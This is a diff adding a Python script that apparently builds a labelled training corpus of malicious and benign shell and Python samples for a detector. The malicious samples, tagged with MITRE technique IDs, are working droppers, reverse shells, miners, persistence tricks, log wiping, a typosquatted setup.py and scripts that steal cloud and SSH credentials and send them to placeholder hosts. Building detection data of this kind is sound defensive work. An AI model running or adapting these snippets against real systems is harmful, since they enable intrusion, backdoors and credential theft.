@@ -1,0 +1,300 @@
+#!/usr/bin/env python3
+"""Writes synthetic.jsonl: samples we wrote ourselves, in the shared corpus format.
+
+Malicious ones are assembled from techniques documented in the corpus (droppers,
+persistence, miners, reverse shells, credential theft) to cover its thin spots:
+malicious Bash *files* and Python `-c` one-liners. Benign ones are container
+entrypoints, healthchecks and admin one-liners. All of it is inert text: it is
+never executed, and its hosts are documentation addresses (RFC 5737) or .invalid.
+Collection `synthetic-team`: trained on, reported apart, never held-out evidence.
+"""
+import hashlib
+import json
+import os
+
+M, B = "malicious", "benign"
+SAMPLES = [
+    # --- malicious bash files -------------------------------------------------
+    ("bash", "file", M, "T1105", r'''#!/bin/sh
+# stage-1 dropper
+cd /tmp || cd /var/tmp || cd /dev/shm
+for u in http://198.51.100.23/x86_64 http://203.0.113.7/x86_64; do
+  (wget -q "$u" -O .kworker || curl -fsSL "$u" -o .kworker) && break
+done
+chmod +x .kworker
+nohup ./.kworker -c /tmp/.cfg >/dev/null 2>&1 &
+rm -f "$0"
+'''),
+    ("bash", "file", M, "T1496", r'''#!/bin/bash
+pkill -f xmrig; pkill -f kdevtmpfsi; pkill -f kinsing
+ps aux | grep -v grep | grep -E 'minerd|cryptonight' | awk '{print $2}' | xargs -r kill -9
+mkdir -p /dev/shm/.x && cd /dev/shm/.x
+curl -s http://203.0.113.40/xmrig.tar.gz | tar xz
+./xmrig -o stratum+tcp://pool.invalid:3333 -u 4AbcWallet -p x --donate-level 1 -B
+(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://203.0.113.40/i.sh | sh") | crontab -
+'''),
+    ("bash", "file", M, "T1053.003", r'''#!/bin/bash
+echo "* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/198.51.100.9/443 0>&1'" > /etc/cron.d/syslog-rotate
+chmod 644 /etc/cron.d/syslog-rotate
+touch -r /etc/crontab /etc/cron.d/syslog-rotate
+'''),
+    ("bash", "file", M, "T1543.002", r'''#!/bin/sh
+cat > /etc/systemd/system/dbus-helper.service <<EOF
+[Unit]
+Description=D-Bus helper
+[Service]
+ExecStart=/usr/local/bin/.dbus-helper
+Restart=always
+[Install]
+WantedBy=multi-user.target
+EOF
+curl -fsSL http://203.0.113.5/helper -o /usr/local/bin/.dbus-helper
+chmod 755 /usr/local/bin/.dbus-helper
+systemctl daemon-reload && systemctl enable --now dbus-helper
+'''),
+    ("bash", "file", M, "T1574.006", r'''#!/bin/bash
+wget -q http://198.51.100.77/libsystem.so -O /usr/lib/libsystem.so
+echo /usr/lib/libsystem.so > /etc/ld.so.preload
+chattr +i /etc/ld.so.preload /usr/lib/libsystem.so
+'''),
+    ("bash", "file", M, "T1098.004", r'''#!/bin/bash
+mkdir -p /root/.ssh
+echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+kQbbs3l2ZR6zPGrmjqg ops" >> /root/.ssh/authorized_keys
+chmod 600 /root/.ssh/authorized_keys
+sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config
+history -c; unset HISTFILE
+'''),
+    ("bash", "file", M, "T1070.002", r'''#!/bin/sh
+for f in /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages; do
+  [ -f "$f" ] && cat /dev/null > "$f"
+done
+rm -f /var/log/wtmp /var/log/btmp /var/log/lastlog
+unset HISTFILE; history -c
+rm -f ~/.bash_history
+'''),
+    ("bash", "file", M, "T1562.001", r'''#!/bin/bash
+setenforce 0 2>/dev/null
+echo SELINUX=disabled > /etc/selinux/config
+systemctl stop firewalld; systemctl disable firewalld
+ufw disable
+iptables -F
+systemctl stop auditd
+pkill -9 -f falco
+'''),
+    ("bash", "file", M, "T1552.005", r'''#!/bin/bash
+TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 60")
+ROLE=$(curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/)
+curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/$ROLE > /tmp/.c
+cat /var/run/secrets/kubernetes.io/serviceaccount/token >> /tmp/.c
+curl -s -F "f=@/tmp/.c" http://203.0.113.88/upload
+'''),
+    ("bash", "file", M, "T1611", r'''#!/bin/sh
+# escape through the mounted docker socket
+curl -s --unix-socket /var/run/docker.sock -X POST -H 'Content-Type: application/json' \
+  -d '{"Image":"alpine","Cmd":["chroot","/host","sh","-c","echo x >> /host/etc/crontab"],"HostConfig":{"Binds":["/:/host"],"Privileged":true}}' \
+  http://localhost/containers/create
+nsenter --target 1 --mount --uts --ipc --net --pid -- /bin/sh
+'''),
+    ("bash", "file", M, "T1027", r'''#!/bin/bash
+p="Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjEyL3MgfCBiYXNo"
+echo "$p" | base64 -d | bash
+eval "$(echo 'ZWNobyBoaQ==' | base64 --decode)"
+'''),
+    ("bash", "file", M, "T1059.004", r'''#!/bin/bash
+while true; do
+  bash -i >& /dev/tcp/198.51.100.14/8443 0>&1
+  sleep 60
+done &
+disown
+'''),
+    # --- malicious bash one-liners ----------------------------------------------
+    ("bash", "inline", M, "T1105", "cd /dev/shm; wget http://203.0.113.9/k -O k; chmod +x k; ./k"),
+    ("bash", "inline", M, "T1105", "curl -fsSL http://198.51.100.3/s.sh | sh"),
+    ("bash", "inline", M, "T1059.004", "rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc 198.51.100.2 9001 > /tmp/p"),
+    ("bash", "inline", M, "T1027", "echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjEvYSB8IHNo | base64 -d | sh"),
+    ("bash", "inline", M, "T1496", "nohup /tmp/.x/xmrig -o stratum+tcp://203.0.113.50:4444 -u wallet -k >/dev/null 2>&1 &"),
+    ("bash", "inline", M, "T1552.005", "curl -s http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token -H 'Metadata-Flavor: Google'"),
+    ("bash", "inline", M, "T1070.003", "unset HISTFILE; export HISTSIZE=0; rm -f ~/.bash_history"),
+    # --- malicious python ------------------------------------------------------------
+    ("python", "inline", M, "T1059.006", "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('198.51.100.5',4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(['/bin/sh','-i'])"),
+    ("python", "inline", M, "T1027", "import base64,zlib;exec(zlib.decompress(base64.b64decode('eJwrKMrMK1HILy0pKC0BAB0WBJ0=')))"),
+    ("python", "inline", M, "T1105", "import urllib.request,os;urllib.request.urlretrieve('http://203.0.113.30/a','/tmp/a');os.chmod('/tmp/a',0o755);os.system('/tmp/a &')"),
+    ("python", "inline", M, "T1552.005", "import urllib.request as u;print(u.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/').read())"),
+    ("python", "inline", M, "T1059.006", "import pty,socket,os;s=socket.create_connection(('198.51.100.8',53));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/bash')"),
+    ("python", "file", M, "T1195.002", r'''from setuptools import setup
+from setuptools.command.install import install
+import os, urllib.request
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        data = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}
+        urllib.request.urlopen("http://203.0.113.61/c", data=repr(data).encode())
+        os.system("curl -s http://203.0.113.61/i.sh | sh")
+
+setup(name="requets-utils", version="0.1", cmdclass={"install": PostInstall})
+'''),
+    ("python", "file", M, "T1552.001", r'''import os, glob, json, socket, urllib.request
+home = os.path.expanduser("~")
+loot = {}
+for p in [".aws/credentials", ".kube/config", ".docker/config.json", ".git-credentials", ".ssh/id_rsa"]:
+    f = os.path.join(home, p)
+    if os.path.exists(f):
+        loot[p] = open(f).read()
+loot["host"] = socket.gethostname()
+req = urllib.request.Request("https://discord.com/api/webhooks/000/xyz", data=json.dumps({"content": json.dumps(loot)[:1900]}).encode(), headers={"Content-Type": "application/json"})
+urllib.request.urlopen(req)
+'''),
+    ("python", "file", M, "T1496", r'''import os, subprocess, urllib.request, stat
+path = "/dev/shm/.systemd-udevd"
+urllib.request.urlretrieve("http://198.51.100.99/xmrig", path)
+os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
+subprocess.Popen([path, "-o", "stratum+tcp://198.51.100.99:3333", "-u", "wallet", "--donate-level", "1"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
+with open("/etc/crontab", "a") as f:
+    f.write("@reboot root /dev/shm/.systemd-udevd\n")
+'''),
+    # --- benign bash files ------------------------------------------------------------
+    ("bash", "file", B, None, r'''#!/bin/sh
+set -e
+# docker-entrypoint: first arg is `-f` or `--some-option`
+if [ "${1#-}" != "$1" ]; then
+  set -- nginx "$@"
+fi
+if [ -n "$NGINX_ENVSUBST_TEMPLATE_DIR" ]; then
+  for t in "$NGINX_ENVSUBST_TEMPLATE_DIR"/*.template; do
+    envsubst < "$t" > "/etc/nginx/conf.d/$(basename "$t" .template)"
+  done
+fi
+exec "$@"
+'''),
+    ("bash", "file", B, None, r'''#!/bin/bash
+set -euo pipefail
+: "${POSTGRES_HOST:=db}"
+until pg_isready -h "$POSTGRES_HOST" -p 5432 -q; do
+  echo "waiting for postgres at $POSTGRES_HOST..."
+  sleep 2
+done
+python manage.py migrate --noinput
+python manage.py collectstatic --noinput
+exec gunicorn app.wsgi:application --bind 0.0.0.0:8000 --workers "${WORKERS:-2}"
+'''),
+    ("bash", "file", B, None, r'''#!/bin/sh
+# healthcheck
+curl -fsS --max-time 2 http://127.0.0.1:8080/healthz > /dev/null || exit 1
+'''),
+    ("bash", "file", B, None, r'''#!/bin/bash
+set -e
+VERSION=1.7.2
+ARCH=$(uname -m)
+curl -fsSLo /tmp/tool.tar.gz "https://github.com/acme/tool/releases/download/v${VERSION}/tool-${ARCH}.tar.gz"
+echo "${TOOL_SHA256}  /tmp/tool.tar.gz" | sha256sum -c -
+tar -xzf /tmp/tool.tar.gz -C /usr/local/bin tool
+chmod +x /usr/local/bin/tool
+rm -f /tmp/tool.tar.gz
+tool --version
+'''),
+    ("bash", "file", B, None, r'''#!/bin/bash
+# rotate application logs older than 7 days
+find /var/log/app -name '*.log' -mtime +7 -exec gzip {} \;
+find /var/log/app -name '*.gz' -mtime +30 -delete
+systemctl reload app || true
+'''),
+    ("bash", "file", B, None, r'''#!/bin/sh
+set -e
+if [ "$(id -u)" = '0' ]; then
+  chown -R redis:redis /data
+  exec gosu redis "$0" "$@"
+fi
+exec redis-server /usr/local/etc/redis/redis.conf "$@"
+'''),
+    ("bash", "file", B, None, r'''#!/usr/bin/env bash
+# backup the database to object storage
+set -euo pipefail
+ts=$(date +%Y%m%dT%H%M%S)
+pg_dump -h "$DB_HOST" -U "$DB_USER" "$DB_NAME" | gzip > "/backups/db-$ts.sql.gz"
+aws s3 cp "/backups/db-$ts.sql.gz" "s3://$BUCKET/db/"
+find /backups -name 'db-*.sql.gz' -mtime +14 -delete
+'''),
+    # --- benign bash one-liners -------------------------------------------------------
+    ("bash", "inline", B, None, "apt-get update && apt-get install -y --no-install-recommends ca-certificates curl && rm -rf /var/lib/apt/lists/*"),
+    ("bash", "inline", B, None, "wget -qO- http://127.0.0.1:9090/-/ready || exit 1"),
+    ("bash", "inline", B, None, "kubectl get pods -n kube-system -o wide | grep -v Running"),
+    ("bash", "inline", B, None, "tar czf /backups/www-$(date +%F).tgz /var/www && ls -lh /backups"),
+    ("bash", "inline", B, None, "du -sh /var/lib/docker/* 2>/dev/null | sort -h | tail -5"),
+    ("bash", "inline", B, None, "echo \"$CONFIG_B64\" | base64 -d > /etc/app/config.yaml"),
+    # --- benign python ----------------------------------------------------------------
+    ("python", "inline", B, None, "import json,sys; print(json.load(sys.stdin)['status'])"),
+    ("python", "inline", B, None, "import urllib.request,sys; sys.exit(0 if urllib.request.urlopen('http://127.0.0.1:8000/health', timeout=2).status == 200 else 1)"),
+    ("python", "inline", B, None, "import socket; s=socket.socket(); s.settimeout(1); s.connect(('127.0.0.1', 5432)); print('db up')"),
+    ("python", "inline", B, None, "import secrets; print(secrets.token_urlsafe(32))"),
+    ("python", "inline", B, None, "import sys, yaml, json; json.dump(yaml.safe_load(sys.stdin), sys.stdout, indent=2)"),
+    ("python", "file", B, None, r'''#!/usr/bin/env python3
+"""Container healthcheck: the app answers and its queue is not stuck."""
+import json
+import sys
+import urllib.request
+
+try:
+    with urllib.request.urlopen("http://127.0.0.1:8000/status", timeout=3) as r:
+        status = json.load(r)
+except OSError as e:
+    print(f"unhealthy: {e}", file=sys.stderr)
+    sys.exit(1)
+sys.exit(0 if status.get("queue_lag", 0) < 300 else 1)
+'''),
+    ("python", "file", B, None, r'''#!/usr/bin/env python3
+import os
+import subprocess
+import sys
+
+def main():
+    env = dict(os.environ, PYTHONUNBUFFERED="1")
+    if os.environ.get("RUN_MIGRATIONS", "1") == "1":
+        subprocess.run([sys.executable, "manage.py", "migrate", "--noinput"], check=True, env=env)
+    os.execvpe("gunicorn", ["gunicorn", "app.wsgi", "-b", "0.0.0.0:8000"], env)
+
+if __name__ == "__main__":
+    main()
+'''),
+    ("python", "file", B, None, r'''import base64
+import os
+
+import boto3
+
+def load_secret(name):
+    """Fetch a secret from AWS Secrets Manager and write it where the app expects it."""
+    client = boto3.client("secretsmanager", region_name=os.environ.get("AWS_REGION", "us-east-1"))
+    value = client.get_secret_value(SecretId=name)
+    blob = value.get("SecretBinary")
+    data = base64.b64decode(blob) if blob else value["SecretString"].encode()
+    with open("/run/secrets/app", "wb") as f:
+        f.write(data)
+    os.chmod("/run/secrets/app", 0o600)
+'''),
+]
+
+
+def main():
+    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "synthetic.jsonl")
+    with open(out, "w") as f:
+        for lang, kind, label, technique, content in SAMPLES:
+            content = content.strip() if kind == "inline" else content
+            h = hashlib.sha256(content.encode()).hexdigest()[:16]
+            rec = {
+                "id": f"synthetic-{lang}-{label[0]}-{h}",
+                "lang": lang,
+                "kind": kind,
+                "label": label,
+                "source": "sensor-team:models/synthetic/make_synthetic.py",
+                "license": "Apache-2.0",
+                "collection": "synthetic-team",
+                "content": content,
+            }
+            if technique:
+                rec["technique"] = technique
+            f.write(json.dumps(rec) + "\n")
+    print(f"wrote {len(SAMPLES)} samples to {out}")
+
+
+if __name__ == "__main__":
+    main()
